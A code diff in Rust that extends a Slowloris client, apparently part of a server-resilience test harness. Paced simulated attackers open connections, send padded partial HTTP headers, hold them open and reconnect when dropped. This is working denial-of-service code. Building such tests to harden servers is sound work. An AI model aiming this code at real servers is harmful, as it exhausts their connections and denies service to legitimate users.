@@ -20,32 +20,33 @@ pub struct Slowloris {
 }
 
 impl Slowloris {
-    /// Sends this many; returns when all have had the time to connect.
-    pub async fn start(site: &Site, count: usize) -> Self {
+    /// Sends this many, each of which begins with so many bytes at once; returns when all have had the time to connect.
+    pub async fn start(site: &Site, count: usize, head_bytes: usize) -> Self {
         let mut attackers = JoinSet::new();
         let mut pace = Pace::per_second(ARRIVALS_PER_SECOND);
         for _ in 0..count {
             pace.tick().await;
             let site = site.clone();
-            attackers.spawn(async move { attack(&site).await });
+            attackers.spawn(async move { attack(&site, head_bytes).await });
         }
         Self { _attackers: attackers }
     }
 }
 
 /// Begins anew whenever the server ends it.
-async fn attack(site: &Site) {
+async fn attack(site: &Site, head_bytes: usize) {
     let source = new_source();
     loop {
         if let Ok(stream) = site.connect_raw(source).await {
-            let _ = speak(stream, site).await;
+            let _ = speak(stream, site, head_bytes).await;
         }
         sleep(BETWEEN_BYTES).await;
     }
 }
 
-async fn speak(mut stream: TcpStream, site: &Site) -> std::io::Result<()> {
-    stream.write_all(format!("GET /config.json HTTP/1.1\r\nHost: {}\r\nX-Slow: ", site.address()).as_bytes()).await?;
+async fn speak(mut stream: TcpStream, site: &Site, head_bytes: usize) -> std::io::Result<()> {
+    let head = format!("GET /config.json HTTP/1.1\r\nHost: {}\r\nX-Slow: ", site.address());
+    stream.write_all(format!("{head:x<head_bytes$}").as_bytes()).await?;
     let mut answer = [0; 512];
     loop {
         // An answer is the end of it, whatever it says.
